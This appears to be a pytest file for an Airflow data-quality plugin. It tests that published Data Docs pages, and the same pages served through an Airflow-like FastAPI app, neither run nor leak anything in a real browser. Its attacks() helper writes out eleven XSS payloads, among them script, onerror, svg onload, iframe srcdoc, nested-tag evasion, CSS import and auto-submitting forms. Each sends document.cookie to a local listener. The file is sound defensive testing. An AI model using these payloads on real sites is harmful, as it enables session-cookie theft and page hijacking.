"""Data that looks like a web page is shown by a real browser, and does nothing in it."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from datetime import date
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pandas as pd
import pytest
import uvicorn
from airflow.api_fastapi.core_api.security import get_user
from fastapi import FastAPI, Response
from fastapi.responses import HTMLResponse

from include.quality.inspection import Inspection
from include.quality.quiet_gx import gxe
from include.storage.lake import Lake
from plugins.data_docs import app, lake
from stores.folder import FileStore
from tests.chromium import Listener, opened, require_chromium
from tests.waiting import PATIENCE

DAY = date(2013, 10, 1)
FRONT = f"data_docs/data_day={DAY}/index.html"


@pytest.fixture(autouse=True)
def _browser() -> None:
    require_chromium()


@pytest.fixture
def listener() -> Iterator[Listener]:
    found = Listener()
    yield found
    found.stop()


def attacks(to: str) -> list[str]:
    """Cells that tell a server what they see, each in a way of its own; the last two lead away from the page."""
    tell = f"document.title='taken';fetch('{to}/NAME?'+document.cookie)"
    return [
        f"<script>{tell.replace('NAME', 'script')}</script>",
        f"<scr<script></script>ipt>{tell.replace('NAME', 'nested')}</scr<script></script>ipt>",
        f'<img src=x onerror="{tell.replace("NAME", "onerror")}">',
        f'<svg onload="{tell.replace("NAME", "svg")}">',
        f'<iframe srcdoc="<script>{tell.replace("NAME", "iframe")}</script>"></iframe>',
        f'<img src="{to}/image">',
        f"<style>@import '{to}/style';</style>",
        f'<link rel=stylesheet href="{to}/link">',
        f'<body onpageshow="{tell.replace("NAME", "pageshow")}">',
        f'<meta http-equiv=refresh content="0;url={to}/refresh">',
        f'<form action="{to}/form"><input autofocus onfocus="this.form.submit()"></form>',
    ]


@contextmanager
def airflow(folder: Path) -> Iterator[str]:
    """A server that gives a cookie at its front page and has the Data Docs of a lake at /data-docs, as Airflow does."""
    front = FastAPI()

    @front.get("/")
    def login() -> Response:
        page = HTMLResponse("<script>location = '/data-docs/ice_cream/data_day=2013-10-01/index.html'</script>")
        page.set_cookie("session", "secret", samesite="lax")
        return page

    front.mount("/data-docs", app)
    app.dependency_overrides |= {lake: lambda: FileStore(folder), get_user: lambda: "someone"}
    opening = socket.socket()
    opening.bind(("127.0.0.1", 0))
    server = uvicorn.Server(uvicorn.Config(front, log_level="warning", lifespan="off"))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [opening]}, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{opening.getsockname()[1]}"
    finally:
        server.should_exit = True
        thread.join(PATIENCE)
        opening.close()
        app.dependency_overrides.clear()


@contextmanager
def plain_server(folder: Path) -> Iterator[str]:
    """A server that sends files without a word of what a browser may do with them."""

    class Quiet(SimpleHTTPRequestHandler):
        def log_message(self, *_: object) -> None:
            return

    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(Quiet, directory=str(folder)))
    threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


def old_page(folder: Path, cells: Sequence[str]) -> None:
    """A page as it was published before anything was escaped."""
    page = folder / "ice_cream" / FRONT
    page.parent.mkdir(parents=True)
    page.write_text(f"<html><head><title>Data</title></head><body>{''.join(cells)}</body></html>")


@pytest.mark.stack
def test_a_page_full_of_scripts_can_do_nothing_on_airflows_origin(tmp_path: Path, listener: Listener) -> None:
    # Given a page that does harm where nothing forbids it
    old_page(tmp_path / "open", attacks(listener.url)[:-2])
    with plain_server(tmp_path / "open" / "ice_cream") as url:
        opened(f"{url}/{FRONT}", tmp_path / "control")
    assert {path.split("?")[0] for path in listener.told} >= {"/script", "/onerror", "/svg", "/image", "/style"}
    listener.told.clear()
    old_page(tmp_path / "lake", attacks(listener.url))

    # When it is opened at Airflow, by somebody with a cookie of Airflow's
    with airflow(tmp_path / "lake") as url:
        shown = opened(url, tmp_path / "profile")

    # Then it is shown, and nothing of it has run, asked anybody anything, or seen the cookie
    assert "<title>Data</title>" in shown
    assert listener.told == []


@pytest.mark.stack
def test_what_is_published_of_such_data_is_harmless_wherever_it_is_opened(tmp_path: Path, listener: Listener) -> None:
    # Given a night whose cells, column and use case are such pages
    cells = attacks(listener.url)
    meta = {"check": "one_of", "column": cells[0], "expected": cells[1]}
    inspection = Inspection(DAY, tmp_path / "site")
    frame = pd.DataFrame({cells[0]: cells})
    rules = [gxe.ExpectColumnValuesToBeInSet(column=cells[0], value_set=["a"], mostly=0.5, meta=meta)]
    inspection.findings("raw-flights", frame, rules)
    inspection.publish(Lake(FileStore(tmp_path / "lake"), "ice_cream"), cells[2], [])
    (checks,) = (tmp_path / "lake").rglob("lake-raw-flights.html")

    # When its pages are opened, without any protection by a server
    with plain_server(tmp_path / "lake") as url:
        front = opened(f"{url}/ice_cream/{FRONT}", tmp_path / "profile")
        shown = opened(f"{url}/{checks.relative_to(tmp_path / 'lake')}", tmp_path / "profile")

    # Then the texts are shown, and nothing has happened
    assert listener.told == []
    assert "&lt;script&gt;document.title='taken'" in shown
    assert "<title>taken" not in front + shown
